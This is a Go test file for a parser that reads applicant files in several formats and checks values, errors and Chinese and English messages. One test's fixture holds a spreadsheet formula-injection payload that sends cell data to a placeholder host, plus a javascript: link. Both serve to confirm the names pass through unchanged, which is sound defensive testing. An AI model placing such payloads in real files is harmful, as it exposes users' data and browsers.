package intake

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"

	"github.com/merit-rules/merit/internal/exact"
	"github.com/merit-rules/merit/internal/program"
)

// policy is a program that has inputs and nothing else.
func policy(t testing.TB, slots ...program.Slot) *program.Program {
	t.Helper()
	return &program.Program{
		Policy: program.Policy{Currency: "CNY", Zone: shanghai(t)},
		Slots:  slots, Inputs: len(slots),
	}
}

// base is the policy of the corpus's good rows.
func base(t testing.TB) *program.Program {
	t.Helper()
	notNegative := program.Limits{HasMin: true}
	share := program.Limits{HasMin: true, HasMax: true, Max: exact.Int(1)}
	return policy(t,
		program.Slot{Name: "信用代码", Type: typ(program.TextKind)},
		program.Slot{Name: "片区", Type: &program.Type{Kind: program.Choice, Options: []string{"主城都市区", "渝东北", "渝东南"}}},
		program.Slot{Name: "申报日期", Type: typ(program.Date)},
		program.Slot{Name: "失信", Type: typ(program.Bool)},
		program.Slot{Name: "目标", Type: typ(program.Number), Limits: notNegative},
		program.Slot{Name: "完成", Type: typ(program.Number), Limits: notNegative},
		program.Slot{Name: "服务企业数", Type: typ(program.Integer), Limits: notNegative},
		program.Slot{Name: "满意度", Type: typ(program.Percent), Limits: share},
		program.Slot{Name: "申请金额", Type: typ(program.Money), Unit: "元", Limits: notNegative},
	)
}

// one is a policy with the single input 值.
func one(t testing.TB, kind program.Kind) *program.Program {
	t.Helper()
	s := program.Slot{Name: "值", Type: typ(kind)}
	if kind == program.Percent {
		s.Limits = program.Limits{HasMin: true, HasMax: true, Max: exact.Int(1)}
	}
	return policy(t, s)
}

func corpus(t testing.TB, name string) File {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	require.NoError(t, err)
	return File{Name: name, Data: data}
}

// outcomes lists the rows of a batch: "id value value", then the refusals and faults.
func outcomes(b *Batch, err error) []string {
	var out []string
	for _, r := range b.Applicants {
		line := r.ID
		for _, v := range r.Inputs {
			line += " " + print(v)
		}
		out = append(out, line)
	}
	var faults Faults
	errors.As(err, &faults)
	for _, r := range b.Refused {
		out = append(out, fmt.Sprintf("row %d %s: %s", r.Row, r.Column, r.Code))
	}
	for _, r := range faults {
		out = append(out, fmt.Sprintf("file %d %s: %s", r.Row, r.Column, r.Code))
	}
	return out
}

// settled checks that no row was lost or made up.
func settled(t *testing.T, b *Batch) {
	t.Helper()
	require.Equal(t, b.Rows, len(b.Applicants)+b.RefusedRows, "rows in = applicants + refused")
}

func readText(t *testing.T, p *program.Program, name, text string) []string {
	t.Helper()
	b, err := Read(p, []File{{Name: name, Data: []byte(text)}})
	settled(t, b)
	return outcomes(b, err)
}

var goodRows = []string{
	"A01 91500000MA5U0000XN 渝东北 2025-02-07 false 10 7 50 0.95 300000",
	"A02 91500000MA5U0001XP 主城都市区 2025-02-06 false 9 7 20 0.9 250000",
	"A03 91500000MA5U0002XQ 渝东南 2025-02-01 false 8 8 19 0.88 180000",
	"A04 91350100M000100Y43 主城都市区 2025-02-08 false 10 10 80 1 300000",
	"A05 915001000620300070 主城都市区 2025-01-20 false 3 2 50 0.5 300000",
}

func TestGoodFilesGiveTheSameRowsInEveryFormat(t *testing.T) {
	for _, name := range []string{
		"apps-ok.csv", "apps-ok.json", "apps-ok.ndjson", "apps-bom.csv", "apps-crlf.csv", "apps-gb18030.csv", "apps-injection.csv",
	} {
		t.Run(name, func(t *testing.T) {
			b, err := Read(base(t), []File{corpus(t, name)})
			require.NoError(t, err)
			settled(t, b)
			if diff := cmp.Diff(goodRows, outcomes(b, nil)); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestNamesComeThroughExactly(t *testing.T) {
	b, err := Read(base(t), []File{corpus(t, "apps-injection.csv")})
	require.NoError(t, err)
	require.Equal(t, `=HYPERLINK("http://x.invalid/?"&A1,"点")`, b.Applicants[0].Name)
	require.Equal(t, "[a](javascript:alert(1)) **b** `c` \"|d", b.Applicants[3].Name)
}

func TestGoodValuesOfTheCorpus(t *testing.T) {
	tests := []struct {
		name string
		kind program.Kind
		want string
	}{
		{"apps-number-good.csv", program.Number, "12345 1234567.89 35000 0.1 -3.25 42 1000 0.1234567890123456789012345678901234 0 0 0 100.1"},
		{"apps-percent-good.csv", program.Percent, "0.7 0.705 0.7 1 0 0.005 0.33333"},
		{"apps-date-good.csv", program.Date, "2025-02-07 2025-02-07 2025-02-07 2025-02-07 2024-02-29"},
		{"apps-bool-good.csv", program.Bool, "true false true false"},
		{"apps-text-exact.csv", program.TextKind, "915001000620300070 007 1e5 TRUE 2025-02-07 =1+1 null nan 1,234 70% -5 √ 91350100M000100Y43 𠀀䶮㐂 a'b <b>"},
		{"apps-blank.csv", program.Number, "? 0 ? ?"},
		{"apps-null.json", program.Number, "? ?"},
		{"apps-big-number.json", program.Number, "0.1234567890123456789 12345678901234567890"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := Read(one(t, tt.kind), []File{corpus(t, tt.name)})
			require.NoError(t, err)
			require.Empty(t, b.Refused)
			var got []string
			for _, r := range b.Applicants {
				got = append(got, print(r.Inputs[0]))
			}
			require.Equal(t, tt.want, strings.Join(got, " "))
		})
	}
}

func TestBadValuesOfTheCorpusAreAllRefusedAtOnce(t *testing.T) {
	tests := []struct {
		name  string
		kind  program.Kind
		count int
	}{
		{"apps-number-bad.csv", program.Number, 45},
		{"apps-percent-bad.csv", program.Percent, 8},
		{"apps-date-bad.csv", program.Date, 19},
		{"apps-bool-bad.csv", program.Bool, 10},
		{"apps-exp-bomb.json", program.Number, 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := Read(one(t, tt.kind), []File{corpus(t, tt.name)})
			require.NoError(t, err)
			settled(t, b)
			require.Empty(t, b.Applicants)
			require.Equal(t, tt.count, b.RefusedRows)
			require.Equal(t, tt.count, b.Rows)
			for _, r := range b.Refused {
				require.NotEmpty(t, r.Seen)
				require.Equal(t, "值", r.Column)
				require.NotZero(t, r.Row)
				require.Contains(t, r.Message("zh"), r.Seen)
				require.Contains(t, r.Message("en"), r.Seen)
			}
		})
	}
}

func TestBadFilesOfTheCorpus(t *testing.T) {
	numbers := one(t, program.Number)
	tests := []struct {
		name string
		p    *program.Program
		want []string
		says string // in the messages
	}{
		{"apps-mixed-encoding.csv", base(t), []string{"file 0 : data-encoding-mixed"}, "第3行"},
		{"apps-ragged-short.csv", base(t), append(without(goodRows, 1), "row 3 : data-fields"), "第3行"},
		{"apps-dup-header.csv", base(t), []string{"file 0 目标: data-header-twice"}, "目标"},
		{"apps-unknown-column.csv", base(t), []string{"file 0 完成数: data-column-unknown"}, "“完成数”这一列，是否指“完成”"},
		{"apps-title-row.csv", base(t), []string{"file 0 : data-header-below"}, "第3行像是表头"},
		{"apps-unit-in-header.csv", base(t), []string{"file 0 申请金额（万元）: data-header-unit"}, "政策里叫“申请金额”，按 元 读取"},
		{"apps-dup-id.csv", base(t), append(without(goodRows, 0, 1), "row 2 id: data-id-twice", "row 3 id: data-id-twice"), "编号“A01”与第3行重复"},
		{"apps-dup-key.json", numbers, []string{"row 1 值: data-key-twice"}, "“值”写了两次"},
		{"apps-trailing.json", numbers, []string{"1 5", "file 0 : data-json-trailing"}, "还有文字"},
		{"apps-deep.json", numbers, []string{"file 1 : data-json-depth"}, "64层"},
		{"apps-bad-line.ndjson", numbers, []string{"1 5", "3 7", "row 2 : data-json"}, "第2行"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := Read(tt.p, []File{corpus(t, tt.name)})
			settled(t, b)
			got := outcomes(b, err)
			if tt.name == "apps-dup-header.csv" || tt.name == "apps-unknown-column.csv" || tt.name == "apps-unit-in-header.csv" {
				got = got[len(got)-1:]
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			require.Contains(t, messages(b, err), tt.says)
			require.NotContains(t, messages(b, err), "\ufffd")
		})
	}
}

func without(rows []string, drop ...int) []string {
	var kept []string
	for i, r := range rows {
		if len(drop) > 0 && i == drop[0] {
			drop = drop[1:]
			continue
		}
		kept = append(kept, r)
	}
	return kept
}

func messages(b *Batch, err error) string {
	var out []string
	for _, r := range b.Refused {
		out = append(out, r.Message("zh"))
	}
	var faults Faults
	if errors.As(err, &faults) {
		for _, r := range faults {
			out = append(out, r.Message("zh"))
		}
	}
	for _, n := range b.Notes {
		out = append(out, n.Message("zh"))
	}
	return strings.Join(out, "\n")
}

func TestIDsWithZerosAreDifferent(t *testing.T) {
	b, err := Read(base(t), []File{corpus(t, "apps-id-zeros.csv")})
	require.NoError(t, err)
	require.Empty(t, b.Refused)
	require.Equal(t, "1", b.Applicants[0].ID)
	require.Equal(t, "01", b.Applicants[1].ID)
	require.Equal(t, "001", b.Applicants[2].ID)
}

func TestHeaderWithoutRowsIsAnEmptyBatch(t *testing.T) {
	b, err := Read(base(t), []File{corpus(t, "apps-only-header.csv")})
	require.NoError(t, err)
	require.Zero(t, b.Rows)
}

func TestTheMessageOfMistake18(t *testing.T) {
	p := policy(t, program.Slot{Name: "满意度", Type: typ(program.Percent)})
	b, err := Read(p, []File{{Name: "a.csv", Data: []byte("id,满意度\n1,98%\n2,98%\n3,98%\n4,98%\n5,98%\n6,98分\n")}})
	require.NoError(t, err)
	require.Len(t, b.Refused, 1)
	require.Equal(t, "第7行“满意度”：看不懂“98分”，应填百分数，如 98%。该行未计入，名单为暂定。", b.Refused[0].Message("zh"))
	require.Equal(t, "row 7 “满意度”: cannot read “98分”: this takes a percent, such as 98%. The row does not count and the list is provisional.", b.Refused[0].Message("en"))
}

func TestTheMessageOfMistake19(t *testing.T) {
	text := "id,申请金额\n1,300000\n2,180000\n3,25万\n4,100000\n5,10万\n6,300000\n7,300000\n8,30\n"
	p := policy(t, program.Slot{Name: "申请金额", Type: typ(program.Money), Unit: "元"})
	b, err := Read(p, []File{{Name: "a.csv", Data: []byte(text)}})
	require.NoError(t, err)
	require.Len(t, b.Applicants, 8)
	require.Len(t, b.Notes, 1)
	require.Equal(t, "第9行“申请金额”：为30元，其余各行在10万元以上，是否以万元填写？请改为 300000元 或 30万元", b.Notes[0].Message("zh"))
	require.Equal(t, "row 9 “申请金额”: is 30元 while all others are 10万元 or more: was it meant in 万元? Write 300000元 or 30万元", b.Notes[0].Message("en"))
}
